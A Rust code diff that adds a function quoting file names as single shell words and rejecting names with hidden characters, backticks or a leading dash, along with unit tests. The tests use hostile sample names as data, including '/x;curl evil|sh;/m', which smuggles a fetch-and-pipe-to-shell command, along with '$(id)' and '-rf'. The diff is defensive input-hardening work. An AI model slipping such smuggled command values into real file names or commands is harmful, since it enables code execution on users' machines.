@@ -99,6 +99,20 @@ pub fn printable_json(json: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// A name as one word of a shell's command, in quotes where it needs them; `None`: what people would copy from a page is not
+/// the name, as it has hidden characters, or the mark that commands are shown between.
+#[must_use]
+pub fn shell_word(text: &str) -> Option<Cow<'_, str>> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._/@:+-".contains(c);
+    if text.is_empty() || text.starts_with('-') || text.contains(|c| is_hidden(c) || c == '`') {
+        return None;
+    }
+    if text.chars().all(plain) {
+        return Some(Cow::Borrowed(text));
+    }
+    Some(Cow::Owned(format!("'{}'", text.replace('\'', r"'\''"))))
+}
+
 /// Makes a name printable in place.
 pub fn make_printable(text: &mut String) {
     if let Cow::Owned(printable) = printable(text) {
@@ -143,6 +157,24 @@ mod tests {
             printable_text("\x1b[1mname\x1b[0m \x1b[2J\x1b", &ours),
             "\x1b[1mname\x1b[0m \\x1b[2J\\x1b"
         );
+    }
+
+    #[test]
+    fn names_in_commands_are_one_word() {
+        for plain in ["/usr/lib/libc.so.6", "a@b:c+d-e_f"] {
+            assert!(matches!(shell_word(plain), Some(Cow::Borrowed(word)) if word == plain));
+        }
+        for (name, word) in [
+            ("/x;curl evil|sh;/m", "'/x;curl evil|sh;/m'"),
+            ("a b", "'a b'"),
+            ("$(id)'\"\\", r#"'$(id)'\''"\'"#),
+            ("größe", "'größe'"),
+        ] {
+            assert_eq!(shell_word(name).as_deref(), Some(word));
+        }
+        for hidden in ["", "-rf", "a\nb", "a\u{202e}b", "a`b"] {
+            assert_eq!(shell_word(hidden), None);
+        }
     }
 
     #[test]
